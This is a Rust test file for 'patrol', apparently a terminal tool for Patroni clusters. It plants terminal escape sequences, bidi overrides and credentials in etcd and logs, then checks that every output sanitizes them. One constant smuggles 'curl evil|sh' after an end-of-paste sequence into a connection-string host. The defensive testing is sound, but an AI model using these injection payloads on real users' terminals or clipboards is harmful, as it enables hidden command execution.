//! Hostile text in etcd and in a member's log reaches no terminal as it is: the real binary in
//! a pseudo-terminal, asserted on the raw bytes it writes (ratatui drops C0/C1 controls from
//! its buffer, so a screen or buffer check alone cannot fail for them), and `patrol list` in
//! every format on the same keys.

mod support;

use std::io::Write;
use std::time::Duration;

use support::pty::spawn;
use support::{TestCluster, eventually};

/// A member name with an OSC 0 (window title) sequence.
const NAME: &str = "ev\x1b]0;pwned\x07il";
/// A member state with CSI SGR, an 8-bit CSI (C1) and a right-to-left override.
const STATE: &str = "\x1b[31mRED\u{9b}1mC1\u{202E}RLO";
/// A tag with OSC 52 (set the clipboard) and isolate, RLM and ALM marks.
const TAG: &str = "\x1b]52;c;cHduZWQ=\x07\u{2066}ISO\u{200F}RLM\u{061C}ALM";
/// A config value with CSI 2J (clear screen), line/paragraph separators and LRM.
const CONF: &str = "\x1b[2JCLEAR\u{2028}LS\u{2029}PS\u{200E}LRM\u{7f}DEL";
/// A Patroni log line.
const LOG: &str = "LOGMARK \x1b[31mRED\x1b]0;pwned\x07\u{202E}RLO";
/// The password in the hostile member's URLs.
const SECRET: &str = "S3CRETPW";
/// A `conn_url` host that would run a command when pasted into a shell: newlines and the
/// end-of-bracketed-paste sequence around it.
const PASTE: &str = "10.9.9.9\n\x1b[201~\ncurl evil|sh\n";

/// Code points that must never come out (patrol itself writes none of them).
const UNSAFE: &[char] = &[
    '\u{9b}', '\u{7f}', '\u{7}', '\u{061C}', '\u{200B}', '\u{200E}', '\u{200F}', '\u{2028}',
    '\u{2029}', '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}',
    '\u{2068}', '\u{2069}', '\u{FEFF}',
];

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

/// None of the hostile payloads' control bytes, and no credentials, in `out`.
fn assert_clean(out: &[u8], what: &str) {
    let show = |at: usize| {
        String::from_utf8_lossy(&out[at.saturating_sub(40)..(at + 40).min(out.len())])
            .escape_debug()
            .to_string()
    };
    // patrol writes no OSC of its own (only OSC 52 on `y`, never pressed here)
    for bad in [
        &b"\x1b]"[..],
        b"\x1b[31mRED",
        b"\x1b[2JCLEAR",
        SECRET.as_bytes(),
    ] {
        if let Some(at) = find(out, bad) {
            panic!(
                "{what}: {:?} in the output: …{}…",
                String::from_utf8_lossy(bad),
                show(at)
            );
        }
    }
    for c in UNSAFE {
        let mut b = [0u8; 4];
        let enc = c.encode_utf8(&mut b).as_bytes();
        if let Some(at) = find(out, enc) {
            panic!("{what}: U+{:04X} in the output: …{}…", *c as u32, show(at));
        }
    }
}

/// Write the hostile member key and the hostile config value into the cluster's prefix.
fn poison(c: &TestCluster) {
    let member = serde_json::json!({
        "conn_url": format!("postgres://u:{SECRET}@127.0.0.1:1/postgres"),
        "api_url": format!("http://u:{SECRET}@127.0.0.1:1/patroni"),
        "state": STATE,
        "role": "replica",
        "version": "4.1.5",
        "timeline": 1,
        "tags": {"note": TAG},
    });
    let key = format!("{}members/{NAME}", c.key_prefix());
    let out = c.etcdctl(&["put", &key, &member.to_string()]);
    assert!(out.status.success(), "etcdctl put member: {out:?}");
    let clip = serde_json::json!({
        "conn_url": format!("postgres://{PASTE}:5432/postgres"),
        "api_url": "http://127.0.0.1:1/patroni",
        "state": "running",
        "role": "replica",
        "version": "4.1.5",
        "timeline": 1,
    });
    let key = format!("{}members/clip", c.key_prefix());
    let out = c.etcdctl(&["put", &key, &clip.to_string()]);
    assert!(out.status.success(), "etcdctl put member: {out:?}");
    let mut config: serde_json::Value =
        serde_json::from_str(&c.etcd_get("config").expect("config key")).expect("config json");
    config["x_hostile"] = CONF.into();
    let key = format!("{}config", c.key_prefix());
    let out = c.etcdctl(&["put", &key, &config.to_string()]);
    assert!(out.status.success(), "etcdctl put config: {out:?}");
}

#[test]
fn hostile_text_never_reaches_the_terminal_or_list_output() {
    let c = TestCluster::start(1);
    let cfg = c.config_path().to_string_lossy().to_string();
    let dir = tempfile::tempdir().expect("tempdir");
    let audit = dir.path().join("audit.jsonl").to_string_lossy().to_string();
    let own_log = dir.path().join("patrol.log").to_string_lossy().to_string();
    let logs = format!("file:{}/{{member}}/log/patroni.log", c.dir().display());
    let (mut child, mut keys, screen) = spawn(
        &[
            "-c",
            &cfg,
            "--logs",
            &logs,
            "--audit-log",
            &audit,
            "--log-file",
            &own_log,
        ],
        &[],
        160,
        45,
    );
    screen.wait_for("the cluster on screen", "leader pg1");

    // while patrol watches: a member joins, the config changes, a log line arrives
    poison(&c);
    let mut f = std::fs::OpenOptions::new()
        .append(true)
        .open(c.log_path("pg1"))
        .expect("pg1's log");
    writeln!(f, "2026-01-01 00:00:00,000 INFO: {LOG}").expect("append the log line");
    drop(f);

    // the main view: the member's name, state and tag, shown with `?` for each control
    let t = screen.wait_for("the hostile member on screen", "ev?]0;pwned?il");
    assert!(t.contains("?[31mRED?1mC1?RLO"), "{t}");
    assert!(t.contains("?]52;c;cHduZWQ=??ISO?RLM?ALM"), "{t}");

    // its detail view (it sorts after the leader): URLs without credentials
    keys.write_all(b"G\r").expect("G enter");
    // (the hostile name sorts last)
    let t = screen.wait_for("the detail view", "Member ev?]0;pwned?il");
    assert!(t.contains("http://***@127.0.0.1:1/patroni"), "{t}");
    // the restart dialog shows the request to its api_url
    keys.write_all(b"r").expect("r");
    screen.wait_for("the restart dialog", "restart ·");
    keys.write_all(b"\r").expect("enter");
    // to scheme, host and port only; its api_url's userinfo refuses the write, shown redacted
    let t = screen.wait_for("the request", "POST http://127.0.0.1:1/restart");
    assert!(t.contains("api_url http://***@127.0.0.1:1/patroni"), "{t}");
    assert!(t.contains("its writes are refused"), "{t}");
    // one key at a time: ESC followed at once by a key reads as Alt+key
    for _ in 0..3 {
        keys.write_all(b"\x1b").expect("esc");
        std::thread::sleep(Duration::from_millis(300));
    }

    // the config view
    keys.write_all(b"c").expect("c");
    screen.wait_for("the config view", "x_hostile");
    keys.write_all(b"\x1b").expect("esc");
    std::thread::sleep(Duration::from_millis(300));
    // every member's log
    keys.write_all(b"A").expect("A");
    screen.wait_for("the log view", "Log all members");
    keys.write_all(b"/LOGMARK\r").expect("filter");
    let t = screen.wait_for("the log line", "LOGMARK ");
    assert!(t.contains("LOGMARK ?[31mRED?]0;pwned??RLO"), "{t}");
    keys.write_all(b"\x1b").expect("esc");
    std::thread::sleep(Duration::from_millis(300));
    keys.write_all(b"\x1b").expect("esc");
    std::thread::sleep(Duration::from_millis(300));
    // the other views
    for (k, marker) in [
        ("e", "endpoints"),
        ("h", "istory"),
        ("d", "Connection strings"),
        ("o", "own log"),
    ] {
        keys.write_all(k.as_bytes()).expect("view key");
        screen.wait_for(marker, marker);
        keys.write_all(b"\x1b").expect("esc");
        std::thread::sleep(Duration::from_millis(300));
    }
    // the event export: a file someone will `cat`
    keys.write_all(b"E").expect("E");
    let written = eventually(Duration::from_secs(10), "the event export", || {
        std::fs::read_dir(dir.path())
            .ok()?
            .flatten()
            .map(|e| e.path())
            .find(|p| p.to_string_lossy().contains("patrol-events-"))
    });
    let export = eventually(Duration::from_secs(5), "the export written", || {
        std::fs::read(&written).ok().filter(|b| !b.is_empty())
    });
    assert!(
        String::from_utf8_lossy(&export).contains("ev?]0;pwned?il"),
        "{}",
        String::from_utf8_lossy(&export)
    );
    assert_clean(&export, "the event export");

    keys.write_all(b"q").expect("q");
    eventually(Duration::from_secs(10), "patrol exits", || {
        child.try_wait().ok().flatten()
    });
    assert_clean(&screen.raw(), "the TUI");
    if let Ok(l) = std::fs::read(&own_log) {
        assert_clean(&l, "patrol's own log file");
    }

    // `patrol list`, every format, on the same keys
    for format in ["pretty", "tsv", "yaml", "json"] {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_patrol"))
            .args(["-c", &cfg, "list", "-f", format])
            .output()
            .expect("patrol list");
        assert!(out.status.success(), "list -f {format}: {out:?}");
        let text = String::from_utf8_lossy(&out.stdout).to_string();
        assert!(
            text.contains("pwned") && text.contains("RLO") && text.contains("ISO"),
            "list -f {format} shows the member: {text}"
        );
        assert_clean(&out.stdout, &format!("list -f {format}"));
        assert!(
            !out.stdout.contains(&0x1b),
            "list -f {format}: ESC in {text:?}"
        );
        if format == "json" {
            // the exact values, escaped
            let v: serde_json::Value = serde_json::from_str(&text).expect("json");
            let rows = v.as_array().expect("array");
            assert!(rows.iter().any(|m| m["Member"] == NAME), "{text}");
        }
    }
}

/// The process of a test, killed if the test fails before it exits.
struct Kill(support::pty::Child);

impl Drop for Kill {
    fn drop(&mut self) {
        if !matches!(self.0.try_wait(), Ok(Some(_))) {
            let _ = self.0.kill();
        }
    }
}

/// `y` on every connection string of the real binary: the bytes it writes to its terminal
/// hold an OSC 52 sequence only for strings of checked hosts, each decoding to plain text;
/// the strings with the hostile `conn_url` host are refused with a notice, and no newline,
/// ESC or end-of-paste sequence from etcd goes to the clipboard.
#[test]
fn a_hostile_conn_url_never_reaches_the_clipboard() {
    use base64::Engine;
    let c = TestCluster::start(1);
    poison(&c);
    let cfg = c.config_path().to_string_lossy().to_string();
    let (child, mut keys, screen) = spawn(&["-c", &cfg], &[], 160, 45);
    let mut child = Kill(child);
    screen.wait_for("the hostile member on screen", "clip");
    keys.write_all(b"d").expect("d");
    screen.wait_for("the connection strings", "Connection strings");
    let mut seen = String::new();
    // five strings: the leader's, the multi-host one (no replica streams), each member's
    for _ in 0..5 {
        keys.write_all(b"y").expect("y");
        std::thread::sleep(Duration::from_millis(400));
        seen.push_str(&screen.text());
        keys.write_all(b"j").expect("j");
        std::thread::sleep(Duration::from_millis(200));
    }
    assert!(
        seen.contains("not copied: the host in clip's conn_url is refused"),
        "{seen}"
    );
    keys.write_all(b"q").expect("q");
    eventually(Duration::from_secs(10), "patrol exits", || {
        child.0.try_wait().ok().flatten()
    });

    let raw = screen.raw();
    assert!(
        find(&raw, b"\x1b[201~").is_none(),
        "an end-of-paste sequence was written"
    );
    let mut copied = Vec::new();
    let mut rest = &raw[..];
    while let Some(at) = find(rest, b"\x1b]52;c;") {
        let body = &rest[at + 7..];
        let end = body
            .iter()
            .position(|b| *b == 0x07)
            .expect("OSC 52 ends with BEL");
        let text = base64::engine::general_purpose::STANDARD
            .decode(&body[..end])
            .expect("base64");
        copied.push(String::from_utf8(text).expect("UTF-8"));
        rest = &body[end..];
    }
    let leader = format!("host=127.0.0.1 port={}", c.pg_port("pg1"));
    assert!(copied.contains(&leader), "{copied:?}");
    for t in &copied {
        assert!(!t.chars().any(patrol::text::is_unsafe), "{t:?}");
        assert!(!t.contains("10.9.9.9") && !t.contains("curl"), "{t:?}");
    }
    // the leader's string, pg1's own and the hostile-named member's (its host is fine); not
    // the multi-host one, nor clip's
    let port1 = "host=127.0.0.1 port=1".to_string();
    assert_eq!(copied, [leader.clone(), leader, port1], "{copied:?}");
}
